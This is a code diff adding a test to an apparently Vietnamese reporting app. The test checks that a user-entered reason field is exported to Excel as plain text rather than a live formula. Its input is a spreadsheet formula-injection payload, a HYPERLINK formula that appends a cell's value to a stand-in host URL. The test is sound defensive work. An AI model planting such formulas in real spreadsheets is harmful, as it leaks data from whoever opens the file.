@@ -57,6 +57,15 @@ def values(returned: Any) -> list[Decimal | None]:
     return [figure.value for figure in returned.reading.figures]
 
 
+def test_words_that_look_like_a_formula_stay_words(world: Reporting) -> None:
+    """What one person typed as a reason must not run in Excel at the desk of the next."""
+    report, reason = world.report(), '=HYPERLINK("http://xau.example?"&G6,"Xem")'
+    missing = Filled(slot=world.slots["von"], no_data_reason=reason)
+    fill(**world.envelope("hoa"), report=report, expects=0, figures=(missing,))
+    cell = openpyxl.load_workbook(io.BytesIO(Desk(world).workbook()))["Số liệu"]["H7"]
+    assert (cell.value, cell.data_type) == (reason, "s")
+
+
 def test_it_goes_down_filled_and_locked(world: Reporting) -> None:
     report = world.report()
     slot = world.slots["von"]
